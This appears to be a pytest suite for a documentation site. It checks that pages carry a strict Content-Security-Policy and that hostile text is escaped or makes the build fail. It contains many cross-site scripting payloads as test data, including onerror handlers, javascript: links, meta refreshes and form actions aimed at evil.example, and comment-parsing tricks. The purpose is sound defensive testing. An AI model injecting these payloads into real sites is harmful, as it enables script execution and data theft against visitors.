"""The site under its own policy, and what strangers may write: nothing they say is run, and none of it is markup."""

import contextlib
import dataclasses
import json
import re
import xml.etree.ElementTree as etree
from types import SimpleNamespace

import plotly.graph_objects as go
import pytest
from playwright.sync_api import Error

from attnsite.content import parsed_html
from attnsite.content.judging import Text, judge
from attnsite.figures.toolkit import style
from attnsite.records import registry, run_file
from attnsite.records.mistakes import flatten
from attnsite.records.quantity import Quantity
from attnsite.records.run_file import EVERY_MACHINE
from attnsite.site import about
from attnsite.site.answers import Answers
from attnsite.site.builders import checks, finish
from attnsite.site.builders import content_security_policy as policy
from attnsite.site.builders import mkdocs_hooks as hooks
from attnsite.site.markdown.rendering import Renderer
from tests import checkouts
from tests.attacks import ATTACKS, FINE, FORM, IMAGE, REFRESH
from tests.conftest import ROOT, headers_of, serve

HOSTILE = """<img src=x onerror="evil=1">"></script><script>evil=2</script>'><svg onload=evil=3>{{evil}}"""
# What a browser refuses under a page's policy, and every dialog, kept where no page change loses it.
WATCH = """
  window.refused = []; window.alert = () => { window.evil = 9; };
  addEventListener("securitypolicyviolation", e => window.refused.push(`${e.violatedDirective} ${e.blockedURI}`));
"""
KINDS = ["", "questions/", "questions/cost/", "questions/cost/what_more_heads_cost/", "evidence/", "sources/",
         "machines/", "figures/kv_cache/", "results/", "kernels/", "kernels/cpu_naive/", "glossary/",
         "calculator/?layers=2", "by_hand/", "notebooks/heads_by_hand/", "notebooks/measure_it_yourself/",
         "404.html"]  # fmt: skip
LONG = "questions/cost/what_more_heads_cost/"
GOOD = "<html><head><meta charset=utf-8></head><body><script>theme()</script><article>{}</article></body></html>"


@pytest.fixture
def watched(open_page):
    """Open pages under their policy, and read what it refused."""

    def opened(address, **options):
        page = open_page("about:blank", bypass_csp=False, **options)
        page.add_init_script(WATCH)
        page.goto(address, wait_until="load")
        return page

    return opened


def refused(page):
    page.wait_for_timeout(300)
    return page.evaluate("window.refused")


# --- the policy ------------------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.parametrize("path", KINDS)
def test_a_page_needs_nothing_that_the_policy_refuses(site, watched, path):
    """Opened, with all that is folded unfolded."""
    page = watched(site + path, java_script_enabled=True)
    page.evaluate("document.querySelectorAll('details').forEach(e => { e.open = true })")

    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 1
    assert refused(page) == []


@pytest.mark.browser
def test_what_a_reader_does_needs_nothing_that_the_policy_refuses(site, watched):
    """A live figure with its hover, search, a shared search, a result, the palette, and going on to other pages."""
    page = watched(site + LONG)
    stage = page.locator("figure.is-chart .exhibit-stage").first
    stage.scroll_into_view_if_needed()
    stage.hover()
    page.locator("figure.is-live .main-svg").first.wait_for()
    stage.hover(position={"x": 200, "y": 150})
    page.locator("label.md-header__button[for^=__palette]:visible").first.click()
    page.locator(".onward-next").click()
    page.wait_for_url(lambda address: LONG not in address)
    page.wait_for_timeout(400)  # the theme closes its search an eighth of a second after a step
    page.keyboard.press("/")
    page.keyboard.type("softmax")
    page.locator(".md-search-result__link").first.wait_for()
    page.locator("[data-md-component=search-share]").click()
    assert refused(page) == []
    page.locator(".md-search__input").focus()
    page.locator(".md-search-result__link").first.click()
    page.wait_for_url("**h=softmax**")
    page.locator("article mark").first.wait_for(state="attached")

    assert refused(page) == []
    assert page.evaluate("window.refused !== undefined")  # it was never loaded anew: all of this was one visit
    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 1


@pytest.mark.browser
def test_what_is_injected_is_not_run(site, browser):
    """A script, an attribute and an address that act, put into a page that has them not, under the real policy."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto(site + LONG)
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.evil = 1";
      const div = document.createElement("div");
      div.innerHTML = '<img src="data:," onerror="window.evil = 2"><a id="act" href="javascript:window.evil=3">x</a>'
        + '<iframe src="https://example.invalid/"></iframe>'
        + '<iframe srcdoc="<script>parent.evil = 4</script>"></iframe><p style="color: red">x</p>';
      const away = document.createElement("script");
      away.src = "https://example.invalid/evil.js";
      document.querySelector("article").append(script, div, away);
      document.getElementById("act").click();
    }""")
    page.wait_for_timeout(500)
    seen = page.evaluate("[window.evil, window.refused.map(line => line.split(' ')[0])]")
    context.close()

    assert seen[0] is None
    assert {"script-src-elem", "script-src-attr", "frame-src", "style-src-attr"} <= set(seen[1])


def test_every_page_has_the_one_policy_before_all_that_it_rules(site_folder):
    """The same on all pages, since with instant navigation the first one's holds for the visit; and strict.

    The page of what is not found is none of the theme's, and has what rules its own script and style.
    """
    found, alone = set(), set()
    for path in site_folder.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        [rules] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        place = text.index(rules)
        assert text.index("<meta charset=") < place < 1024, path
        assert not re.search(r"<(?:script|link|style|img)\b", text[:place]), path
        (alone if path.name == "404.html" else found).add(rules)
    [rules], [its] = found, alone
    assert re.sub(r" 'sha256-\S+'", "", its) == re.sub(r" 'sha256-\S+'", "", rules)
    assert its.count("'sha256-") == 3
    assert "; script-src 'self' 'sha256-" in rules
    assert not re.search(r"unsafe|https?:|\*", rules)
    assert all(f"{name} 'none'" in rules for name in ("base-uri", "form-action", "object-src", "frame-src"))
    assert rules.count("'sha256-") <= 14  # a few scripts of the theme and the ways to the root: no page has its own
    headers = (site_folder / "_headers").read_text(encoding="utf-8").split("\n/figures/")[0]
    told = (ROOT / "docs" / "reuse.md").read_text(encoding="utf-8").replace('"', "")
    for name, value in re.findall(r"^  ([\w-]+): (.*)$", headers, re.MULTILINE):
        assert f"add_header {name} {value};" in told
    assert "frame-ancestors 'none'" in headers


def test_a_host_that_reads_the_headers_shuts_pictures_in_and_no_page(site_folder):
    """A picture that is opened alone may load nothing; of no page is said more than of all."""
    of_all = headers_of(site_folder, "/")
    assert len(of_all) == 4
    for file in site_folder.rglob("*.html"):
        assert headers_of(site_folder, "/" + file.relative_to(site_folder).as_posix()) == of_all, file
        assert headers_of(site_folder, "/" + file.parent.relative_to(site_folder).as_posix() + "/") == of_all, file
    pictures = list(site_folder.glob("figures/**/*.svg"))
    assert pictures
    for file in pictures:
        assert "sandbox" in headers_of(site_folder, "/" + file.relative_to(site_folder).as_posix())[-1][1]


@pytest.mark.parametrize("hostile", [
    "<script>evil()</script>", "<SCRIPT\n>evil()</SCRIPT >", '<script type="module">evil()</script>',
    "<style>body{display:none}</style>", "<img src=x onerror=evil()>", "<img src='>' onerror=evil()>",
    "<svg/onload=evil()>", '<a href="javascript:evil()">x</a>', '<a href="java&#115;cript:evil()">x</a>',
    '<a href=" java\tscript:evil()">x</a>', '<svg><a xlink:href="javascript:evil()">x</a></svg>',
    '<iframe src="/x"></iframe>', "<object data=x></object>", "<embed src=x>", "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">', '<p style="position:fixed">x</p>',
    '<img src="//evil.example/a.png">', '<img srcset="https://evil.example/a.png 2x">',
    '<form action="javascript:evil()"></form>', "<svg><foreignObject></foreignObject></svg>",
    '<a href="data:text/html,<script>evil()</script>">x</a>',
    '<!--> <meta http-equiv="refresh" content="0;url=//evil.example"> -->', '<!---> <iframe src="/x"></iframe> -->',
    "<!-- --!> <img src=x onerror=evil()> -->", '<form action="https://evil.example/"><input name=a></form>',
    '<button formaction="//evil.example">x</button>', "<input type=password>", "<input type=image src=//evil.example>",
    "<template><p>x</p></template>",
    "<table><image src=//evil.example/a.png onerror=evil()></table>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<link rel="dns-prefetch" href="//evil.example">', '<svg><use href="//evil.example/x.svg#a"></use></svg>',
    "<svg><set attributeName=href to=javascript:evil() /></svg>", "<video src=a.mp4></video>",
    '<a href="x" ping="//evil.example">x</a>', '<a href="\x01javascript:evil()">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>', "<object></object>",
    '<img src="\\\\\\\\evil.example/a.png">', '<a target="top" href="x">x</a>', "<marquee>x</marquee>",
])  # fmt: skip
def test_a_page_that_holds_what_acts_stops_the_build(hostile, tmp_path, monkeypatch):
    """Whatever way it came in: one line for it, and no script of a single page is ever allowed."""
    checkouts.register(monkeypatch)
    root = checkouts.fill(tmp_path / "checkout")
    for name, text in {"index.html": "Text.", "a/index.html": hostile, "b/index.html": "More."}.items():
        checkouts.put(tmp_path / "site", name, GOOD.format(text))
    with pytest.raises(Exception, match=r".*") as raised:
        finish.finish(Answers.load(root), tmp_path / "site")

    mistakes = flatten(raised.value)
    assert mistakes
    assert {mistake.path for mistake in mistakes} == {"a/index.html"}
    assert "Content-Security-Policy" not in (tmp_path / "site" / "index.html").read_text()
    assert policy.digest("evil()") not in policy.policy(
        {str(path): policy.read(path.read_text()) for path in (tmp_path / "site").rglob("index.html")}
    )


def test_what_a_page_may_hold_is_let_through(tmp_path, monkeypatch):
    """Links out, mail, pictures of its own and inside it, formulas, data, text that looks like markup."""
    checkouts.register(monkeypatch)
    root = checkouts.fill(tmp_path / "checkout")
    fine = ('<a href="https://example.org/?a=javascript:b">x</a><a href="mailto:a@example.org">x</a><img src="a.png">'
            '<img src="data:image/png;base64,AA"><p title="a > b onclick=c">&lt;script&gt;</p><math><mi>x</mi></math>'
            '<script type="application/ld+json">{"a":"\\u003cscript>"}</script><a href="#javascript:x">y</a>'
            "<p>An onclick = handler, and a style=wide one.</p>")  # fmt: skip
    for name, text in {"index.html": fine, "a/index.html": "Text."}.items():
        checkouts.put(tmp_path / "site", name, GOOD.format(text))
    assert finish.finish(Answers.load(root), tmp_path / "site") == 2
    first = {path: path.read_bytes() for path in (tmp_path / "site").rglob("*") if path.is_file()}
    assert policy.digest("theme()").encode() in first[tmp_path / "site" / "index.html"]

    finish.finish(Answers.load(root), tmp_path / "site")
    assert first == {path: path.read_bytes() for path in (tmp_path / "site").rglob("*") if path.is_file()}


def test_the_themes_way_to_the_root_is_its_own_however_it_is_written():
    """Pages differ in it: from inside, and on the page of what is not found as the whole path below the host."""
    head = '<head><meta charset=utf-8><script>scope=new URL("{}",location)</script></head>'
    ways = {"index.html": ".", "a/b/index.html": "../..", "404.html": "/attn-site.v2/~me/"}
    pages = {path: policy.read(head.format(way)) for path, way in ways.items()}
    assert policy.faults(pages) == []

    evil = pages | {"c/index.html": policy.read(head.format('",location);evil("'))}
    assert [fault.path for fault in policy.faults(evil)] != []


def test_the_server_for_writing_has_no_policy(tmp_path):
    """MkDocs' server puts a script of its own into every page, which would be refused."""
    hooks.on_startup("serve", False)
    try:
        hooks.on_post_build(SimpleNamespace(site_dir=str(tmp_path / "nowhere")))  # it would complain of the folder
    finally:
        hooks.on_startup("build", False)


# --- what may be written ---------------------------------------------------------------------------------------


RENDERER = Renderer(about.configuration(ROOT))


def judged(text, plain=True, numbers=False):
    """The lines and words of what may not stand in a text."""
    return [(each.line, each.what) for each in judge(RENDERER, Text(plain=plain, numbers=numbers).add(text, 1))[0]]


INERT = {attack for attack in ATTACKS if not judged(attack, plain=False)}  # what comes out as text, or leads nowhere


@pytest.mark.parametrize("plain", [True, False], ids=["question", "page"])
def test_markup_that_acts_is_refused_where_it_is_written(plain):
    """With the lines it stands on; or nothing comes of it, which a browser is asked of below."""
    assert len(set(ATTACKS)) >= 140
    assert len(INERT) <= 14
    for attack in ATTACKS:
        found = judged(f"Text.\n\nMore.\n\n{attack}\n\nText.", plain)
        assert found or attack in INERT, attack
        assert {line for line, _ in found} <= set(range(5, 6 + attack.count("\n"))), attack


@pytest.mark.browser
def test_of_what_is_let_through_nothing_acts(browser, tmp_path):
    """No request to another host, no dialog, no navigation, without any policy; and of the rest nearly all would."""

    def acts(html):
        told, page = [], context.new_page()
        page.goto(address)
        page.on("dialog", lambda dialog: (told.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: told.append(request.url))
        with contextlib.suppress(Error):  # a page that goes elsewhere
            page.evaluate("html => { document.open(); document.write(html); document.close(); }", html)
            page.wait_for_timeout(100)
            page.evaluate("""() => { for (const each of document.querySelectorAll("[onclick], [href^=java]"))
              each.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
            document.querySelectorAll("[onmouseover]").forEach(e => e.dispatchEvent(new Event("mouseover")));
            document.querySelectorAll("[onfocus]").forEach(e => e.focus()); }""")
            page.wait_for_timeout(50)
        page.close()
        return [each for each in told if not each.startswith(address.removesuffix("below/"))]

    checkouts.put(tmp_path, "index.html", "<!DOCTYPE html><title>Empty</title>")
    with serve(tmp_path) as address:
        context = browser.new_context(bypass_csp=True)
        context.route(re.compile(r"^(?!http://(?:127\.0\.0\.1|localhost))"), lambda route: route.abort())
        frame = '<!DOCTYPE html><meta charset=utf-8><base href="{}"><main><article>{}</article></main>'
        shown = {text: acts(frame.format(address, RENDERER.render(text).html)) for text in [*FINE, *INERT]}
        live = [
            text
            for text in ATTACKS[::4]
            if text not in INERT
            if acts(frame.format(address, RENDERER.render(text).html))
        ]
        context.close()

    assert not {text: told for text, told in shown.items() if told}
    assert len(live) >= 10  # the question is not an idle one


@pytest.mark.parametrize("text", FINE)
def test_markdown_is_let_through(text):
    """Also what shows markup as code."""
    assert judged(text) == []


def test_other_pages_may_hold_boxes_and_questions_may_not():
    """A calculator's form is written by hand, by whoever keeps the site."""
    box = '<div class="a" markdown>\n\nText.\n\n</div>'

    assert judged(box, plain=False) == []
    assert [line for line, _ in judged(box)] == [1]


FIELDS = {
    "body": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(body=f"Text.\n\n{bad}")),
    "answer": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(
        answer=json.dumps(f"As its side {bad}."))),
    "claim": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(
        more=f"  - opinion: {json.dumps(f'It is {bad}.')}\n")),
    "summary": ("docs/questions/shapes/index.md", lambda bad:
        f"---\ntitle: A\norder: 1\nsummary: {json.dumps(bad)}\n---\n"),
    "page": ("docs/method.md", lambda bad: f"# Method\n\n{bad}\n"),
    "glossary": ("docs/glossary.md", lambda bad: f"# Words\n\n### Head\n\nOne softmax {bad}.\n"),
    "page's title": ("docs/method.md", lambda bad: f"---\ntitle: {json.dumps(bad)}\n---\n\n# Method\n"),
    "notebook": ("docs/notebooks/mine.py", lambda bad: f"# %% [markdown]\n# # Mine\n#\n# {bad}\n\n# %%\nx = 1\n"),
    "unreadable": ("docs/questions/shapes/area.md", lambda bad: f"---\ntitle: a: b\n---\n\n{bad}\n"),
}  # fmt: skip


@pytest.mark.parametrize("field", FIELDS)
def test_the_check_names_the_file_and_the_line_of_every_field(field, tmp_path, monkeypatch):
    """Before any build, for each of the forms in which markup hides from one who reads Markdown."""
    checkouts.register(monkeypatch)
    root = checkouts.fill(tmp_path)
    checkouts.put(root, "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    path, written = FIELDS[field]
    for bad in (REFRESH, FORM, IMAGE, f"<!--> {REFRESH} -->", f"<!---> {FORM} -->", f"<!-- --!> {IMAGE} -->"):
        checkouts.put(root, path, written(bad))
        lines = (root / path).read_text(encoding="utf-8").split("\n")
        [wanted] = [number for number, line in enumerate(lines, 1) if "evil.example" in line]
        found = {mistake.where for mistake in checks.check(root) if mistake.path == path and "YAML" not in mistake.what}
        assert str(wanted) in found, bad


def test_a_reference_of_the_text_serves_a_claim_and_is_judged_there(tmp_path, monkeypatch):
    """What stands on one page is judged as one page."""
    checkouts.register(monkeypatch)
    root = checkouts.fill(tmp_path)
    checkouts.put(root, "docs/questions/shapes/area.md", checkouts.question(
        answer="As its side ![x][r].", body="Text.\n\n[r]: https://evil.example/t.png"))  # fmt: skip

    [found] = [mistake for mistake in checks.check(root) if "another host" in mistake.what]
    assert found.path == "docs/questions/shapes/area.md"


# --- hostile records -------------------------------------------------------------------------------------------


def hostile_figure():
    """The figure `squares`, which shows every text of a run: in chart, labels, hover, legend and table."""
    module = checkouts.squares()

    def tabulate(runs):
        return [{"side": row.case["side"], "note": HOSTILE, HOSTILE: row.values["area"]} for row in runs[0].rows]

    def draw(runs):
        rows = runs[0].rows
        line = go.Scatter(x=[r.case["side"] for r in rows], y=[r.values["area"] for r in rows], name=HOSTILE,
                          text=[HOSTILE] * len(rows), mode="lines+markers+text", hovertext=HOSTILE,
                          line={"color": style.OURS})  # fmt: skip
        linked = '<a href="javascript:evil=5">x</a><b style="background:url(javascript:evil=6)">y</b>'
        notes = [{"text": text, "x": 1, "y": 1, "showarrow": False} for text in (HOSTILE, linked)]
        return go.Figure(line, {"title": {"text": HOSTILE}, "annotations": notes, "showlegend": True})

    module.TITLE_COLUMNS, module.tabulate, module.draw = (HOSTILE,), tabulate, draw
    module.values = lambda run: {"largest": Quantity(1.0, HOSTILE), "largest_side": Quantity(1.0, HOSTILE)}
    return module


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A small checkout whose every text is hostile, built by MkDocs as it stands: no check has looked at it."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        checkouts.register(patch)
        module, made = registry.module, hostile_figure()
        patch.setattr(registry, "module", lambda room, name, *n: made if name == "squares" else module(room, name, *n))
        few = {"figures": ["squares"], "experiments": ["squares"], "kernels": ["cpu_naive", "reference"]}
        patch.setattr(registry, "names", lambda room: few.get(room, []))
        checkouts.fill(root)
        for machine in (EVERY_MACHINE, "laptop", "<img src=x onerror=evil=7>"):
            told = {"cpu": HOSTILE, "gpu": HOSTILE, "cores": HOSTILE, "caches": {HOSTILE: HOSTILE}, HOSTILE: [HOSTILE]}
            run = checkouts.run(machine, "count" if machine == EVERY_MACHINE else "timing", **told)
            software = {"commit": HOSTILE, "clean": False, "python": HOSTILE}
            provenance = dataclasses.replace(run.provenance, software=software, steadiness={"verdict": HOSTILE})
            row = dataclasses.replace(run.rows[0], kernel="cpu_naive", skipped=HOSTILE, skip_code="failed")
            run = dataclasses.replace(run, provenance=provenance, rows=(row, *run.rows))
            run_file.write(run, run_file.path_of(root, machine, "squares"))
        body = "```figure\nsquares\n```\n\nSee [@doe2020squares §<b>1</b>], [=squares.largest laptop]."
        title = "'" + HOSTILE.replace("'", "''") + "?'"
        checkouts.put(root, "docs/questions/shapes/area.md", checkouts.question(title=title, body=body))
        checkouts.put(root, "docs/questions/shapes/index.md", checkouts.THEME.format(title=title))
        text = HOSTILE.replace("{{evil}}", "")
        source = checkouts.source("doe2020squares", author=text, title=text, annote=text, venue=text)
        links = """doi = {10.1000/"><script>evil=8</script>},\n  url = {https://example.org/"onclick="evil=9/"""
        checkouts.put(root, "docs/sources/doe2020squares.bib", source.replace("url = {https://example.org/", links))
        checkouts.put_builder(root)
        build(load_config(str(root / "mkdocs.yml"), site_dir=str(root / "site")))
    return root / "site"


def test_no_text_of_a_record_becomes_an_element_or_an_attribute(hostile_site):
    """On every page, read as a browser reads it; the hostile text itself is there, as text."""
    shown = 0
    for path in hostile_site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        shown += "evil" in text
        for tag, attributes in ((each.name, each.attributes) for each in parsed_html.elements(text)):
            assert not [name for name in attributes if name.startswith("on") or not re.fullmatch(r"[\w:-]+", name)]
            assert tag != "img" or attributes["src"] != "x", path
            if tag == "a":
                assert not re.match(r"\s*javascript:", attributes.get("href") or "", re.IGNORECASE)
        assert len(re.findall(r"<script>(?:evil|[^<]*evil)", text)) == 0
    assert shown > 5


def test_data_that_programs_read_stays_whole(hostile_site):
    """JSON, feed, map and JSON-LD parse, and hold the hostile text as text."""
    for path in hostile_site.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    feed = etree.parse(hostile_site / "feed.xml").getroot()
    assert any("onerror" in (each.text or "") for each in feed.iter())
    assert not [each.tag for each in feed.iter() if not each.tag.startswith("{http://www.w3.org/2005/Atom}")]
    etree.parse(hostile_site / "sitemap.xml")
    page = (hostile_site / "questions" / "shapes" / "area" / "index.html").read_text(encoding="utf-8")
    [block] = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)
    assert json.loads(block)["mainEntity"]["name"] == f"{HOSTILE}?"


@pytest.mark.browser
def test_nothing_of_a_hostile_record_is_run(hostile_site, browser):
    """Without a policy, so that escaping alone must do: pages, live chart, other machines, pictures by themselves."""
    dialogs = []
    with serve(hostile_site) as address:
        context = browser.new_context(bypass_csp=True)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.add_init_script(WATCH)
        for path in sorted(hostile_site.rglob("index.html")):
            if "kernels" not in path.parts and "peers" not in path.parts:
                page.goto(address + path.relative_to(hostile_site).as_posix().removesuffix("index.html"))
                page.evaluate("document.querySelectorAll('details').forEach(e => { e.open = true })")
                assert page.evaluate("window.evil") is None, path
        page.goto(f"{address}questions/shapes/area/")
        stage = page.locator(".exhibit-stage").first
        stage.scroll_into_view_if_needed()
        stage.hover()
        page.locator("figure.is-live .main-svg").first.wait_for()
        for link in page.locator("figure.is-live svg a").all():
            assert "script" not in (link.get_attribute("xlink:href") or link.get_attribute("href") or "")
        assert page.locator("figure.is-live [onerror], figure.is-live [onload], figure.is-live img[src=x]").count() == 0
        picker = page.locator(".exhibit-machine select").first
        for option in picker.locator("option").all():
            picker.select_option(option.get_attribute("value"))
            page.wait_for_timeout(200)
        page.locator("a.quantity, a.cite").first.hover()
        page.locator(".card").wait_for()
        assert page.evaluate("window.evil") is None
        assert page.locator("article img[src=x], article svg[onload], .card img").count() == 0
        pictures = sorted(hostile_site.glob("figures/squares/laptop-*.svg"))
        for picture in pictures:
            held = etree.parse(picture).getroot()
            assert not [e.tag for e in held.iter() if e.tag.rpartition("}")[2] in ("script", "foreignObject", "image")]
            assert not [n for e in held.iter() for n in e.attrib if n.rpartition("}")[2].startswith("on")]
            assert not [v for e in held.iter() for n, v in e.attrib.items() if "href" in n and v[:1] != "#"]
            page.goto(address + picture.relative_to(hostile_site).as_posix())
            assert page.evaluate("window.evil") is None
        context.close()
    assert len(pictures) == 2
    assert dialogs == []


def test_the_menu_and_the_search_hold_hostile_titles_as_text(hostile_site):
    """The search's script writes titles as HTML, so the index must hold them escaped."""
    index = json.loads((hostile_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    titles = [found["title"] for found in index["docs"] if "evil" in found["title"]]

    assert titles
    assert not [title for title in titles if re.search(r"<(?:img|script|svg)", title)]
